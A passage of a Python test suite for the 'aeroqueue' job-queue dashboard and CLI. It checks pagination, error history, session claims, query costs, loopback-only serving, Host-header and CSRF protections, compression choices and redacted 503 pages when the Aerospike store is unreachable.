        lists.load(name, [JobSpec(f"j{k}", {}) for k in range(i + 1)])
    with Session.open(registered, heartbeat=False) as session:
        queue.complete_many(queue.reserve(names[5], session, 4), ["ok"] * 4)
    twelve, page = view_cost()
    assert twelve - three < 9, (three, twelve)  # two round trips a list before: 18 more
    for name in names:
        st = lists.status(name)
        row = re.search(rf'<tr[^>]*>\s*<td[^>]*><a href="/lists/{re.escape(name)}"[^>]*>.*?</tr>', page, re.S)
        assert row, name
        assert f">{st.total}<" in row.group(0) and f">{st.done}<" in row.group(0), (name, row.group(0))


def test_dead_jobs_are_found_past_a_token(registered: Backend, list_name: str) -> None:
    """A list page's next page starts past the last token of the one before: in the
    chunk that holds it, not from the first."""
    set_bits(registered, list_name, [3, 9, 10, 70_000, 70_001], "dead", 1)
    assert dead_tokens(registered, list_name, 70_002, 2, after=3) == [9, 10]
    assert dead_tokens(registered, list_name, 70_002, 10, after=10) == [70_000, 70_001]
    assert dead_tokens(registered, list_name, 70_002, 10, after=70_000) == [70_001]
    assert dead_tokens(registered, list_name, 70_002, 10, after=70_001) == []
    assert dead_tokens(registered, list_name, 70_002, 3, after=None) == [3, 9, 10]


def test_error_history_bins_are_shown(app: Flask, registered: Backend, dead_list: tuple[str, Session]) -> None:
    name, _ = dead_list
    # A job record carrying an error history (another feature writes one): shown oldest first.
    registered.put(keys.JOB_SET, keys.job_name(name, 6), {"errs": [
        {"at": 1_700_000_000_000, "err": "TimeoutError: first\nTraceback: t1"},
        {"at": 1_700_000_100_000, "err": "ValueError: <bad> input 6"},
    ]})
    page = text(app.test_client().get(f"/lists/{name}/jobs/6"))
    assert page.index("TimeoutError: first") < page.index("ValueError: <bad> input 6")
    assert "2023-11-14 22:13:20.000Z" in page and "Traceback: t1" in page
    assert re.search(r'<span class="count">2</span>', page)

    bins = {"errs": ["RuntimeError: a", {"msg": "RuntimeError: b", "tb": "tb-b", "at": 5}], "err": "RuntimeError: c\ntb-c"}
    got = [(e.message, e.traceback, e.at) for e in error_history(bins)]
    assert got == [("RuntimeError: a", None, None), ("RuntimeError: b", "tb-b", 5), ("RuntimeError: c", "tb-c", None)]
    assert [e.message for e in error_history({"err": "x", "errs": [{"err": "x"}]})] == ["x"]
    assert error_history({}) == []


def test_sessions_show_their_heartbeat_and_claims(registered: Backend, dead_list: tuple[str, Session]) -> None:
    _, session = dead_list
    rows = {r.id: r for r in Store(registered).sessions()}
    mine = rows[session.id]
    assert mine.state == "alive" and mine.claims == 1 and mine.expiry_ms == 5000
    assert mine.beat is not None and not mine.overdue(mine.beat + 1000)
    assert mine.overdue(mine.beat + 6000)  # past its expiry: shown as overdue
    time.sleep(0.01)
    session.beat()
    again = {r.id: r for r in Store(registered).sessions()}[session.id]
    assert again.beat is not None and again.beat > mine.beat


def test_the_overview_reads_every_sessions_claims_in_one_query(
    app: Flask, registered: Backend, list_name: str,
) -> None:
    """The sessions section read each session's claims with an index query of its own:
    with 50 workers, 50 queries a view. One query of the claims index (the claimed
    jobs' deadlines) reads them all: a view costs the same round trips whatever the
    number of sessions, each shown with its own claims."""
    lists, queue = JobLists(registered), Queue(registered)
    lists.load(list_name, [JobSpec(f"j{i}", i) for i in range(12)], seal=True)
    client = app.test_client()
    opened: list[Session] = []

    def view() -> tuple[int, str]:
        before = registered.round_trips
        page = text(client.get("/"))
        return registered.round_trips - before, page

    try:
        trips = []
        for more, claims in ((1, 1), (5, 2)):  # a session holding 1 claim; then 5 more holding 2 each
            for _ in range(more):
                opened.append(Session.open(registered, heartbeat=False))
                assert len(queue.reserve(list_name, opened[-1], claims)) == claims
            view()  # what a first view of the new jobs' list does once
            n, page = view()
            trips.append(n)
        assert trips[0] == trips[1], f"round trips of a view with 1 and 6 sessions: {trips}"
        shown = session_claims(page)
        assert [shown[s.id] for s in opened] == ["1", "2", "2", "2", "2", "2"], shown
        rows = {r.id: r.claims for r in Store(registered).sessions()}  # the same read, outside a view
        assert [rows[s.id] for s in opened] == [1, 2, 2, 2, 2, 2], rows
    finally:
        for s in opened:
            s.close()


def test_a_store_without_the_claims_index_reads_each_sessions_claims(
    registered: Backend, list_name: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
) -> None:
    """A store registered before the claims index existed (`udf register` creates it):
    each session's claims are read with a query of their own, as before; said once,
    and the index asked for again later."""
    import logging

    lists, queue = JobLists(registered), Queue(registered)
    lists.load(list_name, [JobSpec(f"j{i}", i) for i in range(3)], seal=True)
    asked: list[str] = []

    def no_index(set_name: str, bin_name: str, *args: Any, **kw: Any) -> Any:
        asked.append(bin_name)
        raise errors.BackendError("query failed: AEROSPIKE_ERR_INDEX_NOT_FOUND (Aerospike code 201)", code=201)

    monkeypatch.setattr(registered, "find_between", no_index)
    client = create_app(registered, secret_key="s").test_client()
    with Session.open(registered, heartbeat=False) as a, Session.open(registered, heartbeat=False) as b:
        queue.reserve(list_name, a, 1)
        queue.reserve(list_name, b, 2)
        with caplog.at_level(logging.WARNING, logger="aeroqueue.dashboard"):
            for _ in range(2):
                page = text(client.get("/"))
                shown = session_claims(page)
                assert (shown[a.id], shown[b.id]) == ("1", "2") and 'id="partial"' not in page, shown
        assert asked == ["dl"], "asked once, then not for a while"
        said = [r for r in caplog.records if getattr(r, "event", None) == "claims_index_missing"]
        assert len(said) == 1 and "udf register" in said[0].getMessage(), said
        monkeypatch.setattr(dashboard_data, "CLAIMS_INDEX_RETRY_S", 0.0)
        client.get("/")  # the last wait was set with the minute: still on
        monkeypatch.setattr(dashboard_data.time, "monotonic", lambda: 1e12)
        client.get("/")
        assert asked == ["dl", "dl"], "asked for again once the wait is over"


def test_dashboard_command_serves_on_loopback(registered: Backend, store_url: str, dead_list: tuple[str, Session], tmp_path: Path) -> None:
    from aeroqueue.cli import main

    for command in ("dashboard", "metrics"):
        (host,) = [p for p in main.commands[command].params if p.name == "host"]
        assert host.default == "127.0.0.1", command
    name, _ = dead_list
    port, log = free_port(), tmp_path / "dashboard.log"
    proc = spawn(["--url", store_url, "dashboard", "--port", str(port), "--read-only", "--trusted-host", "proxy.example"], log)
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 30
        while True:
            try:
                with urllib.request.urlopen(f"{base}/lists/{name}", timeout=5) as resp:
                    page = resp.read().decode()
                break
            except (urllib.error.URLError, ConnectionError):
                assert proc.poll() is None and time.monotonic() < deadline, log.read_text()[-3000:]
                time.sleep(0.1)
        assert "read-only" in page and 'data-token="3"' in page and 'method="post"' not in page
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(urllib.request.Request(f"{base}/lists/{name}/kick", data=b"", method="POST"), timeout=5)
        assert refused.value.code in (400, 403)
        for host, code in (("proxy.example", 200), ("rebind.example", 400)):
            try:
                with urllib.request.urlopen(urllib.request.Request(f"{base}/", headers={"Host": host}), timeout=5) as resp:
                    got = resp.status
            except urllib.error.HTTPError as e:
                got = e.code
            assert got == code, (host, got)
    finally:
        code = stop(proc)
    assert code == 0, log.read_text()[-3000:]
    assert job_state(registered, name, 3) == "dead"
    said = log.read_text()
    # Its request log, to a file: plain lines, none of werkzeug's colour codes.
    assert f'"POST /lists/{name}/kick HTTP/1.1" 400' in said or f'"POST /lists/{name}/kick HTTP/1.1" 403' in said, said
    assert "\x1b[" not in said, said[-3000:]


def test_dashboard_command_names_an_address_it_cannot_serve_on(registered: Backend, store_url: str) -> None:
    """A port in use, or an address the host lacks, is one "error:" line naming the address
    and port (werkzeug alone printed its own two lines naming neither), and no server."""
    from click.testing import CliRunner

    from aeroqueue.cli import main

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        busy = CliRunner().invoke(main, ["--url", store_url, "dashboard", "--port", str(port)])
    assert busy.exit_code == 1, busy.output
    assert busy.output.strip() == f"error: cannot serve the dashboard on 127.0.0.1:{port}: Address already in use", busy.output
    # TEST-NET-1 (RFC 5737): an address no test machine holds.
    foreign = CliRunner().invoke(main, ["--url", store_url, "dashboard", "--host", "192.0.2.1", "--port", "0"])
    assert foreign.exit_code == 1, foreign.output
    assert foreign.output.startswith("error: cannot serve the dashboard on 192.0.2.1:0: "), foreign.output
    assert len(foreign.output.strip().splitlines()) == 1, foreign.output


def test_a_dashboard_whose_store_did_not_answer_says_why_until_it_does(
    registered: Backend, list_name: str, caplog: pytest.LogCaptureFixture,
) -> None:
    """Started before its server (`Later`): every page is a 503 naming the error and
    its hint, without a warning a page (the refresh asks every 5 s), the stylesheet
    still served; once the store answers, the pages are the store's."""
    import logging

    from aeroqueue.backends.later import Later
    from aeroqueue.errors import StoreUnreachable

    JobLists(registered).load(list_name, [JobSpec("a", 1)])
    down = StoreUnreachable("cannot connect to aerospike://nowhere:3000/test through its seed: Failed to connect")
    down.hint = "is the server running and reachable?"
    up = {"now": False}

    def make(_failures: int) -> Backend:
        if not up["now"]:
            raise down
        return registered

    log = logging.getLogger("aeroqueue.dashboard")
    later = Later(make, down, retry_s=0.1, log=log, meanwhile="answering every page with a 503")
    try:
        client = create_app(later=later, secret_key="s").test_client()
        with caplog.at_level(logging.WARNING):
            for path in ("/", f"/lists/{list_name}", f"/lists/{list_name}/jobs/0"):
                page = client.get(path)
                body = html.unescape(page.get_data(as_text=True))
                assert page.status_code == 503, (path, body)
                assert "Failed to connect (is the server running and reachable?)" in body, body
        assert not [r for r in caplog.records if "store error" in r.getMessage()], "said once, by Later"
        assert client.get("/static/dashboard.css").status_code == 200
        up["now"] = True
        deadline = time.monotonic() + 10
        while (page := client.get(f"/lists/{list_name}")).status_code != 200:
            assert time.monotonic() < deadline, page.get_data(as_text=True)
            time.sleep(0.05)
        assert list_name in page.get_data(as_text=True)
        assert client.get("/").status_code == 200
    finally:
        later.close()


def test_the_dashboard_command_serves_while_its_store_is_unreachable(tmp_path: Path) -> None:
    """`aeroqueue dashboard` started with its server down serves a 503 that says why,
    rather than exit (a deploy starts it beside the server), and stops on SIGTERM. The
    page names no address (anyone who reaches the dashboard sees it); the log does."""
    port, log, nowhere = free_port(), tmp_path / "dashboard.log", free_port()
    proc = spawn(["--url", f"aerospike://127.0.0.1:{nowhere}/test", "dashboard", "--port", str(port),
                  "--connect-every", "1"], log)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5)
            except urllib.error.HTTPError as e:
                code, body = e.code, html.unescape(e.read().decode())
                break
            except (urllib.error.URLError, ConnectionError):
                assert proc.poll() is None, log.read_text()[-3000:]
                assert time.monotonic() < deadline, log.read_text()[-3000:]
                time.sleep(0.1)
        time.sleep(1.5)  # an attempt more: said once
        assert proc.poll() is None
    finally:
        stopped = stop(proc)
    said = log.read_text()
    assert stopped == 0, said[-3000:]
    assert said.count("store not reachable") == 1 and "store error" not in said, said
    assert code == 503 and "is the server running" in body, body
    assert f":{nowhere}" not in body and "aerospike://" not in body and "[address]" in body, body
    assert f"127.0.0.1:{nowhere}" in said


def test_a_store_error_reloads_a_page_when_it_answers_but_never_an_action(
    app: Flask, registered: Backend, list_name: str, monkeypatch
) -> None:
    """A 503 page of a GET asks its address again (dashboard.js) and loads it once it
    answers. One of a POST (a kick the store failed) has no address to ask: a GET
    there answered 405 at every refresh, the page 'not refreshed' for ever."""
    JobLists(registered).load(list_name, [JobSpec("a", {})])
    client = app.test_client()
    token = csrf(client, f"/lists/{list_name}")

    def down(*_a: Any, **_kw: Any) -> Any:
        raise errors.BackendTimeout("the store did not answer (test)")

    monkeypatch.setattr(JobLists, "status", down)
    monkeypatch.setattr(JobLists, "kick", down)
    page = client.get(f"/lists/{list_name}")
    assert page.status_code == 503 and "data-error-page" in text(page)
    assert 'data-refresh="0"' not in text(page)
    action = client.post(f"/lists/{list_name}/kick", data={"csrf_token": token})
    assert action.status_code == 503 and "the store did not answer" in text(action)
    assert "data-error-page" not in text(action) and 'data-refresh="0"' in text(action), "it asks nothing again"


def _get(url: str, encoding: str) -> tuple[dict[str, str], bytes]:
    req = urllib.request.Request(url, headers={"Accept-Encoding": encoding, "Accept": "text/html"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        assert resp.status == 200
        return {k.lower(): v for k, v in resp.headers.items()}, resp.read()


def test_the_overview_is_served_compressed_to_a_client_that_accepts_it(registered: Backend, list_name: str) -> None:
    """The overview of hundreds of lists is hundreds of kB, fetched again every 5 s by
    each open page: it went uncompressed. A list page, which shows a request's text
    (the ?id= searched for) beside its forms' CSRF token, stays uncompressed: its size
    would tell the token, request after request (BREACH)."""
    import gzip

    from tests.observe.conftest import serving

    names = [f"{list_name}-{i:03d}" for i in range(60)]
    for name in names:
        JobLists(registered).load(name, [JobSpec("a", 1)], seal=True)
    with serving(create_app(registered, secret_key="gzip-test")) as base:
        headers, body = _get(f"{base}/", "gzip")
        plain_headers, plain = _get(f"{base}/", "identity")
        list_headers, _ = _get(f"{base}/lists/{names[0]}?id=abc", "gzip")
    assert headers.get("content-encoding") == "gzip", headers
    assert "accept-encoding" in headers.get("vary", "").lower(), headers
    assert int(headers["content-length"]) == len(body)
    page = gzip.decompress(body).decode()
    assert all(f'data-list="{name}"' in page for name in names)
    assert page.rstrip().endswith("</html>")
    assert "content-encoding" not in plain_headers and all(f'data-list="{name}"' in plain.decode() for name in names)
    assert len(body) * 4 < len(plain), (len(body), len(plain))
    assert "content-encoding" not in list_headers, list_headers


def test_a_store_errors_page_names_no_address_and_the_log_does(
    app: Flask, registered: Backend, list_name: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
) -> None:
    """The 503 page goes to whoever reaches the dashboard (it asks for no login): it
    named the store's URL and the node that did not answer (the client's "lastNode=
    ... host:port"). The page says what failed without them; the log keeps them,
    for the operator who can act on them."""
    import logging

    JobLists(registered).load(list_name, [JobSpec("a", 1)])

    def frozen(*_a: Any, **_kw: Any) -> Any:
        raise errors.BackendTimeout(f"read on aq_list/{list_name} failed: Client timeout: iterations=1 "
                                    "lastNode=BB9A2DCD3290C00 10.20.30.40:3000 (Aerospike code 9)")

    monkeypatch.setattr(JobLists, "status", frozen)
    with caplog.at_level(logging.WARNING):
        page = app.test_client().get(f"/lists/{list_name}")
    body = html.unescape(page.get_data(as_text=True))
    assert page.status_code == 503 and "Client timeout" in body, body
    assert "10.20.30.40" not in body and "[address]" in body and "the dashboard's log has them" in body, body
    assert any("10.20.30.40:3000" in r.getMessage() for r in caplog.records), caplog.records
